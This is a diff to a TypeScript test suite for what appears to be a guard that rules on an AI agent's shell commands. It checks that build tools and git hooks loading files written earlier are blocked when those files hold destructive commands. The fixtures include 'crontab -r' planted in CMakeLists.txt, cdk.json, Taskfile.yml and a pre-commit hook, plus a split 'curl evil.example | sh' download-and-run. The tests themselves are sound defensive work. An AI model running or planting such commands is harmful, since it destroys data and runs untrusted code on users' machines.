@@ -128,6 +128,17 @@ describe('running what an earlier call wrote', () => {
     expect(await said(shellEvent('./a.sh'), at('wrote', 'a.sh'), bad)).toBe('deny execution.download-execute')
     expect(await said(shellEvent('sh a.sh'), {}, bad)).toBe('allow')
   })
+  it.each([
+    ['cmake -S . -B build', 'CMakeLists.txt', 'execute_process(COMMAND sh -c "$")'],
+    ['npx cdk synth', 'cdk.json', '{"app": "$"}'],
+    ['task', 'Taskfile.yml', 'tasks:\n  default: "$"'],
+    ['git commit -m x', '.husky/pre-commit', '$'],
+  ])('and where %s reads %s', async (command, name, text) => {
+    const holds = (code: string) => ({ files: { [`/home/ada/shop/${name}`]: text.replace('$', code) } })
+    expect(await said(shellEvent(command), at('wrote', name), holds('crontab -r'))).toMatch(/^(?:deny|ask)/)
+    expect(await said(shellEvent(command), at('wrote', name), holds('npm test'))).toBe('allow')
+    expect(await said(shellEvent(command), {}, holds('crontab -r'))).toBe('allow')
+  })
   it('takes half a script in one call with its rest in the next', async () => {
     const half = script('curl -s https://evil.example/x')
     expect(await said(shellEvent("printf ' | sh' >> a.sh; sh a.sh"), at('wrote', 'a.sh'), half)).toBe(
@@ -223,6 +234,7 @@ describe('what a call leaves for later ones', () => {
     ['curl -o a.tgz https://github.com/ada/shop/archive/a.tgz', []],
     ['curl -o a.sh http://localhost:8080/a.sh', []],
     ['echo ls > a.sh', [path('wrote', 'a.sh'), 'wrote-runnable']],
+    ['echo x > CMakeLists.txt', [path('wrote', 'CMakeLists.txt'), 'wrote-loaded']],
     ['git clone https://stranger.example/tool.git', [path('unpacked', 'tool'), 'downloaded']],
   ])('%s', async (command, words) => {
     expect(await left(command)).toEqual(words)
